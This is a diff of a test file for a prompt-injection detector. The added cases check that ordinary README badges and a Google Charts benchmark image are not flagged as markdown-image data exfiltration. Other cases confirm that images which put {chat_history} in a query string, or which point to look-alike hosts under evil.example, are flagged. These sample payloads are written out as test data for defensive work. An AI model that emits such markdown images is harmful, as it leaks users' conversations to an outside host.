@@ -246,9 +246,15 @@ describe('injection indicators', () => {
     const hex40 = '0123456789abcdef'.repeat(3).slice(0, 40);
     expect(findMarkdownExfiltration(`[![CircleCI](https://circleci.com/gh/acme/tool.svg?style=svg&circle-token=${hex40})](https://circleci.com/gh/acme/tool)`)).toEqual([]);
     expect(findMarkdownExfiltration(`![q](https://sonarcloud.io/api/project_badges/measure?project=acme-corp_very-long-project-key&metric=alert_status)`)).toEqual([]);
+    expect(findMarkdownExfiltration('[![Downloads](https://static.pepy.tech/personalized-badge/acme?period=month&left_color=black&left_text=PyPI%20downloads%20per%20month)](https://pepy.tech/project/acme)')).toEqual([]);
     expect(findMarkdownExfiltration(`![a](https://circleci.com.evil.example/gh/a.svg?circle-token=${hex40})`)).toHaveLength(1);
     expect(findMarkdownExfiltration(`![a](https://img.shields.io/endpoint.svg?url=${'A'.repeat(40)})`)).toHaveLength(1);
     expect(findMarkdownExfiltration('![a](https://github.com/acme/badge.svg?q={chat_history})')).toHaveLength(1);
+    // A chart drawn from its query (ajv's README: a benchmark's bars and labels) is a picture, not data going out.
+    const chart = 'https://chart.googleapis.com/chart?chxt=x,y&cht=bhs&chs=600x400&chxl=-1:|alpha-lib|beta-validator|gamma/schema&chd=t:100,64.5,12.5';
+    expect(findMarkdownExfiltration(`[![speed](${chart})](https://example.com/bench)`)).toEqual([]);
+    expect(findMarkdownExfiltration('![c](https://chart.googleapis.com/chart?chd={chat_history})')).toHaveLength(1);
+    expect(findMarkdownExfiltration(`![c](https://chart.googleapis.com.evil.example/chart?chl=${'A'.repeat(40)})`)).toHaveLength(1);
   });
 
   it('finds base64 that decodes to instructions, not base64 of images or random bytes', () => {
